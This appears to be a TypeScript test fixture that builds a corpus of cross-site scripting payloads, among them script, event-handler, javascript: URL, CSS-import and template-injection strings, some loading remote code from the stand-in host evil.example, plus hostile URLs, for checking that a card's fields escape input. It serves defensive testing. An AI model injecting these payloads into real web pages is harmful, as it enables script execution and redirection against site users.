/**
 * A corpus of hostile strings for every free-text field of a card: classic script injection, attribute and URL
 * breakouts, markup that would fetch from elsewhere, CSS tricks and strings that break layouts. Each vector is
 * tried bare and behind the breakers a template might leave it behind (a double-quoted attribute, a title), so the
 * corpus covers the places a string can land in a page.
 */
const VECTORS = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/p.png">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<a href="javascript:alert(1)">tap</a>',
  '<a href="&#106;avascript:alert(1)">tap</a>',
  '<a href="data:text/html,<script>alert(1)</script>">tap</a>',
  '<form action="https://evil.example/"><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/s.css">',
  '<object data="https://evil.example/o.swf"></object>',
  '<embed src="https://evil.example/e.swf">',
  '<style>@import "https://evil.example/s.css";</style>',
  '<style>body{background:url(https://evil.example/b.png)}</style>',
  '<div style="background:url(https://evil.example/b.png)">x</div>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '{{constructor.constructor("alert(1)")()}}',
  // A template literal's placeholder, as text: it must stay text.
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the placeholder is the payload
  '${alert(1)}',
  'javascript:alert(1)',
  '"onmouseover="alert(1)',
  "'onmouseover='alert(1)",
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<marquee onstart=alert(1)>',
  'W'.repeat(200),
  '£'.repeat(40),
  'https://evil.example/'.repeat(8),
] as const;

/** What a template might have left open before the string: each vector is also tried behind each of these. */
const BREAKERS = ['', '">', '</title>'] as const;

export const XSS_PAYLOADS: string[] = [
  ...new Set(BREAKERS.flatMap((breaker) => VECTORS.map((vector) => `${breaker}${vector}`))),
];

/** Web addresses that pass the card's http(s) check yet carry a breakout in their path, query or fragment. */
export const HOSTILE_WEB_ADDRESSES = [
  'https://evil.example/"><script>alert(1)</script>',
  "https://evil.example/'onmouseover='alert(1)",
  'https://evil.example/?q=<img src=x onerror=alert(1)>',
  'https://evil.example/#"><svg onload=alert(1)>',
  'http://evil.example/javascript:alert(1)',
];
